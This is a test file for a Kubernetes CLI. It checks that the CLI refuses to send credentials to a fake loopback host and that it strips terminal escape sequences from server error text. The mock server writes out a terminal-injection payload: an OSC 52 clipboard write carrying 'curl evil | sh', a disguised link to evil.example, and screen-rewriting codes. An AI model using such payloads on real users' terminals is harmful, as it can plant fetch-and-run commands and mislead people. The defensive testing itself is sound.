import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { runCli, type CliEnvironment } from '../../services/cli/program';

// Issue 32, rows 10 and 13, against the CLI as a user runs it. Row 10: `--as-me` took any host
// starting with `127.` for loopback, so `--url http://127.evil.example` sent the user's token in
// clear text. Row 13: whatever answers at `--url` had its error text printed raw, terminal escape
// sequences included (OSC 52 writes the clipboard, OSC 8 disguises links, CSI rewrites the screen).

const ESCAPE = '\x1b';
let server: Server;
let url: string;
let requests = 0;
let directory: string;

beforeAll(async () => {
  server = createServer((request, response) => {
    requests++;
    request.resume();
    response.writeHead(500, { 'content-type': 'application/json' });
    response.end(
      JSON.stringify({
        error: `boom\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07 \x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\ \x1b[2K\x1b[1Aok\x9b31m`,
      }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  directory = await mkdtemp(path.join(tmpdir(), 'forewarn-cli-'));
  await writeFile(
    path.join(directory, 'kubeconfig'),
    [
      'apiVersion: v1',
      'kind: Config',
      'clusters: [{name: c, cluster: {server: "https://127.0.0.1:6443"}}]',
      'users: [{name: u, user: {token: user-secret-token}}]',
      'contexts: [{name: x, context: {cluster: c, user: u}}]',
      'current-context: x',
    ].join('\n'),
  );
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  await rm(directory, { recursive: true, force: true });
});

async function run(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const environment: CliEnvironment = {
    stdout: { write: (text: string) => void (stdout += text) },
    stderr: { write: (text: string) => void (stderr += text) },
    env: { KUBECONFIG: path.join(directory, 'kubeconfig') },
    readStdin: () => Promise.resolve(''),
  };
  const code = await runCli(args, environment);
  return { code, stdout, stderr };
}

it('row 10: --as-me refuses http://127.evil.example before sending anything', async () => {
  const result = await run(['report', '-n', 'shop', '--as-me', '--url', 'http://127.evil.example:8080']);
  expect(result.code).not.toBe(0);
  expect(result.stderr).toMatch(/--as-me sends your Kubernetes credentials/);
});

it('row 10: --as-me still goes to a real loopback address', async () => {
  const before = requests;
  await run(['report', '-n', 'shop', '--as-me', '--url', url]);
  expect(requests).toBeGreaterThan(before);
});

it('row 13: an error a server sent is printed without its escape sequences', async () => {
  const result = await run(['report', '-n', 'shop', '--url', url]);
  expect(result.code).not.toBe(0);
  expect(result.stderr).toContain('boom');
  expect(result.stderr).toContain('docs');
  expect(result.stderr).not.toContain(ESCAPE);
  expect(result.stderr).not.toContain('\x07');
  expect(result.stderr).not.toContain('\x9b');
  expect(result.stderr).not.toContain(Buffer.from('curl evil | sh').toString('base64'));
});
